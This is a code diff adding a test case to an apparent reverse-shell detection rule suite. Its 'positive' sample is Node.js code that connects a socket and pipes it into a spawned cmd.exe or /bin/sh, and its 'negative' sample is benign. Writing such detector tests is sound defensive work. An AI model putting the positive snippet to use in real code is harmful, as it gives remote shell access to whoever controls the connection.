@@ -29,4 +29,12 @@ describeRuleCases('reverse-shell', [
     negative:
       'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nbanner = s.recv(64)\nsubprocess.run(["git", "status"])\n',
   },
+  {
+    id: 'SG-RSHELL-004',
+    file: 'scripts/reload.js',
+    positive:
+      "const s = new net.Socket();\ns.connect(p, h, () => {\n  const sh = cp.spawn(win ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });\n  s.pipe(sh.stdin);\n});\n",
+    negative:
+      "const s = new net.Socket();\ns.connect(p, h, () => cp.spawn(process.execPath, ['worker.js']));\n",
+  },
 ]);
